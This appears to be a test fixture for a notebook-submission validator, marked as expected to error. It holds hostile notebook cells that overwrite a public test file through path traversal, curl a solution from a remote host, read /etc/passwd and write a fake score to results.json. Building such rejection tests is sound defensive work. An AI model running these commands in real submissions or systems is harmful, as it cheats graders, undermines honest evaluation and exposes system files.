# expect: error
# why: magics and commands that fetch, write and run a solution
# %%
%%writefile ../../../assignments/roi_pool/test_public.py
PWNED = True
# %%
!pip install roikit; curl -s example.org/solution.py > solution.py
%load_ext autoreload
%run ../../source/roi_pool/solution.py
%alias_magic check env
solution = %sx cat /etc/passwd
# %%
%%bash
echo 40 > results.json
# %%
def answer(*args):
    return solution
